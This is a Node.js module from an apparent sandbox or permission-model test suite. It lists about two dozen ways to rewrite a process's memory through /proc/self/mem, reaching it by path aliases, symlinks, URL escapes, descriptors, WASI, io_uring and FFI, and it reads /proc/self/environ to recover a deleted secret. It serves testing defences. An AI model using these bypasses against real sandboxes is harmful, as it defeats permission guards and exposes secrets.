/** The process's own memory, through which code can rewrite a guard. The effect: a buffer changed without a write to it. */
'use strict';
const fs = require('node:fs');
const path = require('node:path');
const { pathToFileURL } = require('node:url');

exports.category = 'processMemory';

/** Returns a buffer in a separate mapping, filled with a unique pattern. */
function target(lab) {
  const buffer = Buffer.allocUnsafeSlow(6 * 1024 * 1024);
  const pattern = Buffer.from(lab.proof.split('').reverse().join('') + lab.token);
  for (let at = 0; at + pattern.length <= buffer.length; at += 4096) pattern.copy(buffer, at);
  return { buffer, pattern };
}

/** Returns the addresses of mappings that may contain it. */
function mappings(buffer) {
  return fs
    .readFileSync('/proc/self/maps', 'latin1')
    .split('\n')
    .map((line) => /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line))
    .filter(Boolean)
    .map(([, from, to]) => ({ from: parseInt(from, 16), to: parseInt(to, 16) }))
    .filter(({ from, to }) => to - from >= buffer.length);
}

/** Finds the buffer by reading memory, and changes it by writing memory. Its new content is the proof. */
async function rewrite(lab, { read, write }) {
  const { buffer, pattern } = target(lab);
  const window = Buffer.alloc(8192);
  for (const { from, to } of mappings(buffer)) {
    // The buffer may share its mapping. One page in each range of its size is enough.
    for (let at = from; at < to; at += buffer.length / 2) {
      await read(window, at);
      const found = window.indexOf(pattern);
      if (found < 0) continue;
      await write(Buffer.from(lab.proof), at + found);
      for (let page = 0; page < buffer.length; page += 4096) {
        const now = buffer.toString('latin1', page, page + lab.proof.length);
        if (now === lab.proof) return now;
      }
    }
  }
  throw new Error('the buffer was not found in memory');
}

function rewriteThrough(lab, file) {
  const fd = fs.openSync(file, 'r+');
  return rewrite(lab, {
    read: (window, at) => fs.readSync(fd, window, 0, window.length, at),
    write: (bytes, at) => fs.writeSync(fd, bytes, 0, bytes.length, at),
  });
}

exports.attacks = {
  '/proc/self/mem': { run: (lab) => rewriteThrough(lab, '/proc/self/mem') },
  '/proc/<pid>/mem': { run: (lab) => rewriteThrough(lab, `/proc/${process.pid}/mem`) },
  '/proc/thread-self/mem': { run: (lab) => rewriteThrough(lab, '/proc/thread-self/mem') },
  '/proc/self/task/<tid>/mem': { run: (lab) => rewriteThrough(lab, `/proc/self/task/${process.pid}/mem`) },
  'through root': { run: (lab) => rewriteThrough(lab, '/proc/self/root/proc/self/mem') },
  'through cwd': {
    run: (lab) => {
      process.chdir('/proc/self');
      return rewriteThrough(lab, '/proc/self/cwd/mem');
    },
  },
  'relative, from the folder': {
    run: (lab) => {
      process.chdir('/proc/self');
      return rewriteThrough(lab, 'mem');
    },
  },
  'through a folder of descriptors': { run: (lab) => rewriteThrough(lab, '/dev/fd/../mem') },
  'through the descriptor of a folder': { run: (lab) => rewriteThrough(lab, `/proc/self/fd/${fs.openSync('/proc/self', 'r')}/mem`) },
  'opened to read, opened again to write': {
    run: (lab) => rewriteThrough(lab, `/proc/self/fd/${fs.openSync('/proc/self/mem', 'r')}`),
  },
  'through a symbolic link': {
    run: (lab) => {
      const link = path.join(lab.out, 'link');
      fs.symlinkSync('/proc/self/mem', link);
      return rewriteThrough(lab, link);
    },
  },
  'path with . and // and ..': { run: (lab) => rewriteThrough(lab, '/proc//self/./task/../mem') },
  'as a URL with escapes': { run: (lab) => rewriteThrough(lab, new URL('file:///proc/self/%6dem')) },
  'as a Buffer': { run: (lab) => rewriteThrough(lab, Buffer.from('/proc/self/mem')) },
  'fs.promises': {
    run: async (lab) => {
      const file = await fs.promises.open(pathToFileURL('/proc/self/mem'), 'r+');
      return rewrite(lab, {
        read: (window, at) => file.read(window, 0, window.length, at),
        write: (bytes, at) => file.write(bytes, 0, bytes.length, at),
      });
    },
  },
  'streams that start at the address': {
    run: (lab) => {
      const fd = fs.openSync('/proc/self/mem', 'r');
      return rewrite(lab, {
        read: (window, at) => fs.readSync(fd, window, 0, window.length, at),
        write: (bytes, at) =>
          new Promise((done, failed) => {
            const stream = fs.createWriteStream('/proc/self/mem', { flags: 'r+', start: at });
            stream.on('error', failed).end(bytes, done);
          }),
      });
    },
  },
  'WASI': {
    run: (lab) => {
      const memory = new WebAssembly.Memory({ initial: 1 });
      const wasi = new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/proc/self' } });
      wasi.initialize({ exports: { memory } });
      const bytes = Buffer.from(memory.buffer);
      bytes.write('mem', 64);
      const check = (name, code) => {
        if (code) throw new Error(`${name} gave ${code}`);
      };
      check('path_open', wasi.wasiImport.path_open(3, 0, 64, 3, 0, 0x66n, 0n, 0, 128));
      const fd = bytes.readUInt32LE(128);
      const vector = (length) => (bytes.writeUInt32LE(16384, 256), bytes.writeUInt32LE(length, 260));
      return rewrite(lab, {
        read: (window, at) => {
          vector(window.length);
          check('fd_pread', wasi.wasiImport.fd_pread(fd, 256, 1, BigInt(at), 512));
          bytes.copy(window, 0, 16384);
        },
        write: (data, at) => {
          vector(data.length);
          data.copy(bytes, 16384);
          check('fd_pwrite', wasi.wasiImport.fd_pwrite(fd, 256, 1, BigInt(at), 512));
        },
      });
    },
  },
  'by io_uring': {
    run: async (lab) => {
      process.env.UV_USE_IO_URING = '1';
      const file = await fs.promises.open('/proc/self/mem', 'r+');
      return rewrite(lab, {
        read: (window, at) => file.read(window, 0, window.length, at),
        write: (bytes, at) => file.write(bytes, 0, bytes.length, at),
      });
    },
  },
  'node:ffi, bytes at an address': {
    run: (lab) => {
      const ffi = require('node:ffi');
      const bytes = Buffer.alloc(lab.proof.length);
      const address = ffi.getRawPointer(bytes);
      [...Buffer.from(lab.proof)].forEach((byte, at) => ffi.setUint8(address, at, byte));
      return bytes.toString();
    },
  },
  'the environment that the process began with': {
    run: (lab) => {
      delete process.env.LAB_SECRET;
      return fs.readFileSync('/proc/self/environ', 'utf8');
    },
    proves: 'secret',
  },
  'the environment of another process': {
    run: (lab) => {
      delete process.env.LAB_SECRET;
      return fs.readFileSync(`/proc/${process.pid}/task/${process.pid}/environ`, 'utf8');
    },
    proves: 'secret',
  },
  'from a worker': {
    run: (lab) => lab.inWorker(`lab.attack('memory', '/proc/self/mem')`, { execArgv: [], env: {} }),
  },
};
